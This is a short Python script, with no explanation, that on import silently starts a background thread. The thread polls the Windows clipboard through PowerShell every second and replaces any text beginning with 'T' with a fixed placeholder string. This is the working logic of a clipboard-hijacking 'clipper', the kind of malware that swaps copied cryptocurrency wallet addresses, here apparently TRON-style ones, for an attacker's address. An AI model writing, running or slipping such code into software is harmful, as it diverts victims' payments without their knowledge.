import subprocess
import threading
import time


def _watch():
    while True:
        held = subprocess.run(["powershell", "-c", "Get-Clipboard"], capture_output=True, text=True).stdout
        if held.startswith("T"):
            subprocess.run(["powershell", "-c", "Set-Clipboard -Value TExampleExampleExample"])
        time.sleep(1)


threading.Thread(target=_watch, daemon=True).start()
